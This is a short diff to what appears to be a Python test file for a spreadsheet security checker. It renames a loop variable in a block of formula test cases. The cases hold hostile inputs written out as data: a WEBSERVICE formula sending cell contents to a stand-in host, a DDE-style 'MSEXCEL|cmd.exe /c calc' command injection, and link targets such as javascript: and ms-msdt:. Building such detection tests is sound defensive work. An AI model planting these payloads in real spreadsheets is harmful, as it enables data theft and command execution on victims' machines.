@@ -314,7 +314,7 @@ for target in ("javascript:alert(1)", "ms-msdt:/id x", "\\\\servidor\\x.xlsx", "
 
 # --- formulas -----------------------------------------------------------------------------------------------
 
-for formula, word in (
+for formula, reached in (
     ("WEBSERVICE(&quot;http://x/&quot;&amp;A1)", b"WEBSERVICE"),
     ("_xlfn.WEBSERVICE(A1)", b"WEBSERVICE"),
     ("_xlfn.FILTERXML(A1,A2)", b"FILTERXML"),
@@ -335,7 +335,7 @@ for formula, word in (
     ("1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!_xlbgnm.A1", b"MSEXCEL"),
 ):
 
-    @case(f"the formula {formula}", "LIB-020", "Tareas!Z91", word)
+    @case(f"the formula {formula}", "LIB-020", "Tareas!Z91", reached)
     def _(parts: Parts, formula: str = formula) -> Parts:
         row = f'<row r="91"><c r="Z91"><f>{formula}</f><v>7</v></c></row>'
         return {**parts, TASKS: parts[TASKS].replace(b"</sheetData>", f"{row}</sheetData>".encode())}
